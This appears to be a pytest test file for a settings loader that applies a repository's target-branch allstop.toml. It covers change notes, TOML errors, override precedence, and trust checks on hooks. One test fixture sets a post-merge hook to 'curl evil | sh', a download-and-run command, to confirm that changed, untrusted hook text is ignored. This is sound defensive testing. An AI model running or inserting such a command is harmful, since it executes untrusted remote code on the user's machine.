"""The target branch's allstop.toml applies if it has one (K19, B22, B23)."""

from __future__ import annotations

import pytest

from allstop.settings.model import Check
from allstop.settings.origins import RepositoryFile
from allstop.settings.problems import SettingsError
from allstop.settings.repository_trust.accepted import trust
from allstop.settings.target_branch import load_for_work

WEAK = "[[verification.commands]]\nrun = 'true'\n"
STRICT = "[[verification.commands]]\nrun = 'make test'\n"


class Branches:
    """Committed files by branch."""

    def __init__(self, head: str | None = "main", **files: str) -> None:
        self.head = head
        self.files = files
        self.asked: list[str] = []

    def checked_out(self) -> str | None:
        return self.head

    def file(self, branch: str) -> bytes | None:
        self.asked.append(branch)
        text = self.files.get(branch)
        return None if text is None else text.encode()


@pytest.fixture
def load(world):
    def load(branches):
        return load_for_work(
            world.environment, repository=world.repository, branches=branches, flags=world.flags
        )

    return load


def runs(loaded):
    return [check.run for check in loaded.settings.verification.commands]


def test_k19_the_target_branchs_file_counts_and_not_the_checkouts(world, load):
    world.project(WEAK)

    loaded = load(Branches(main=STRICT))

    assert loaded.settings.verification.commands == (Check(run="make test"),)
    assert loaded.notes == ("allstop.toml has changes that aren't on main: they don't apply yet.",)


def test_k19_what_is_the_same_on_both_is_not_worth_a_note(world, load):
    world.project(STRICT)

    loaded = load(Branches(main=STRICT))

    assert (runs(loaded), loaded.notes) == (["make test"], ())


def test_k19_a_comment_or_another_line_end_is_no_difference(world, load):
    world.project("# how we test\r\n" + STRICT.replace("\n", "\r\n"))

    assert load(Branches(main=STRICT)).notes == ()


def test_b23_before_it_is_committed_the_checkouts_file_counts_with_a_note(world, load):
    world.project(STRICT)

    loaded = load(Branches())

    assert runs(loaded) == ["make test"]
    assert loaded.notes == (
        "allstop.toml isn't committed on main: the one in your checkout applies.",
    )


def test_b23_a_repository_without_any_file_is_told_nothing(world, load):
    assert load(Branches()).notes == ()


def test_b23_where_head_is_on_no_branch_the_checkouts_file_counts(world, load):
    world.project(STRICT)

    loaded = load(Branches(head=None))

    assert (runs(loaded), loaded.notes) == (["make test"], ())


def test_k19_the_checkout_says_which_branch_is_the_target(world, load):
    world.project("project.target = 'trunk'\n" + WEAK)
    branches = Branches(head="feature", trunk=STRICT, feature=WEAK)

    loaded = load(branches)

    assert (runs(loaded), loaded.settings.project.target) == (["make test"], "trunk")
    assert branches.asked == ["trunk"]
    assert loaded.origins["project.target"] == RepositoryFile(path=world.project_file, line=1)


def test_k19_the_persons_own_file_may_say_it_too(world, load):
    world.user("project.target = 'trunk'\n")

    assert runs(load(Branches(trunk=STRICT))) == ["make test"]


def test_k19_a_branch_cannot_send_its_work_to_another_one(world, load):
    world.project(STRICT)

    loaded = load(Branches(main="project.target = 'release'\n" + STRICT))

    assert loaded.settings.project.target is None


def test_k19_a_flag_and_a_variable_still_win(world, load):
    world.says({"ALLSTOP_LOOP_MAX_PARALLEL": "7"}).flag({"loop.max_iterations": 3})

    loop = load(Branches(main="loop = {max_parallel = 2, max_iterations = 9}\n")).settings.loop

    assert (loop.max_parallel, loop.max_iterations) == (7, 3)


def test_k19_a_file_that_is_gone_from_the_checkout_still_counts(world, load):
    loaded = load(Branches(main=STRICT))

    assert runs(loaded) == ["make test"]
    assert loaded.notes == ("allstop.toml isn't in your checkout: the one on main applies.",)


def test_k19_half_an_edit_in_the_checkout_stops_no_work(world, load):
    world.project("[loop\n")

    loaded = load(Branches(main=STRICT))

    assert runs(loaded) == ["make test"]
    assert len(loaded.notes) == 1
    assert loaded.notes[0].startswith("allstop.toml:1: not valid TOML")
    assert loaded.notes[0].endswith("The allstop.toml on main applies.")


def test_b23_half_an_edit_is_a_mistake_where_nothing_is_committed(world, load):
    world.project("[loop\n")

    with pytest.raises(SettingsError, match=r"allstop\.toml:1: not valid TOML"):
        load(Branches())


def test_k19_a_mistake_in_the_persons_own_file_is_one_wherever_the_rest_is(world, load):
    world.user("loop.zzz = 1\n").project(STRICT)

    with pytest.raises(SettingsError, match=r"config\.toml:1: loop\.zzz: unknown key"):
        load(Branches(main=STRICT))


def test_k19_a_mistake_on_the_branch_is_told_with_the_branch(world, load):
    world.project(STRICT)

    with pytest.raises(SettingsError, match=r"^main:allstop\.toml:2: loop\.zzz: unknown key$"):
        load(Branches(main="[loop]\nzzz = 1\n"))


HOOK = "hooks.post_merge = 'notify merged'\n"
OTHER = "hooks.post_merge = 'curl evil | sh'\n"


def test_b22_k15_a_hook_on_the_branch_does_not_count_before_it_is_trusted(load):
    loaded = load(Branches(main=HOOK))

    assert loaded.settings.hooks.post_merge is None
    assert [each.key for each in loaded.untrusted] == ["hooks.post_merge"]


def test_b22_k15_trust_is_of_the_very_text_that_counts(world, load):
    world.project(HOOK)
    trust(world.environment.trust_file, world.repository, world.load().sensitive)

    accepted = load(Branches(main=HOOK))
    another = load(Branches(main=OTHER))

    assert accepted.settings.hooks.post_merge == "notify merged"
    assert another.settings.hooks.post_merge is None
    assert another.notes[-1] == (
        "allstop.toml has changes that aren't on main: they don't apply yet."
    )


def test_b22_a_hook_of_the_persons_own_counts_at_once(world, load):
    world.user(HOOK)

    loaded = load(Branches(main=OTHER))

    assert loaded.settings.hooks.post_merge == "notify merged"
    assert [each.key for each in loaded.untrusted] == ["hooks.post_merge"]
